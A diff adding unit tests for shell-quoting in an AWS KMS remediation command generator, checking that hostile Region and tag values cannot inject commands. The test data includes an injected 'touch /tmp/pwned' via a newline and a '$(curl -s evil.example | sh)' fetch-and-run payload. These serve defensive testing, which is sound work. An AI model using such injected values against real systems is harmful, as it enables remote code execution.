@@ -597,6 +597,28 @@ describe('Remediation with hostile values', () => {
     expect(argAfter(command, '--region')).toBe(region);
   });
 
+  it('keeps a comment quoting a hostile Region on one line, so that pasting it runs nothing', () => {
+    // Prepare: quotes do not hold in a comment; a line break in the Region would end it and start a command.
+    const region = 'us-east-1\ntouch /tmp/pwned #';
+    const scheduled = rec('ScheduleKeyDeletion__awskmsdg__1', (r) => {
+      r.awsRegion = region;
+      delete r.resources;
+    });
+    // Act
+    const entries = remediationOf([scheduled]);
+    // Assess: the comment (enable only if it was in use) is there, whole, on one line.
+    const comments = entries.filter((entry) => entry.startsWith('#'));
+    expect(comments).toEqual([
+      expect.stringContaining("also run: aws kms enable-key --key-id 'arn:aws:kms:us-east-1 touch"),
+    ]);
+    expect(comments.filter((entry) => /[\n\r\u2028\u2029]/.test(entry))).toEqual([]);
+  });
+
+  it('quotes a value starting with = (zsh expands =name to the path of a command)', () => {
+    expect(shellQuote('=x')).toBe("'=x'");
+    expect(shellQuote('a=b')).toBe('a=b');
+  });
+
   it('shell-quotes a hostile tag key that has to be removed', () => {
     const tagKey = '$(curl -s evil.example | sh)';
     const records = [
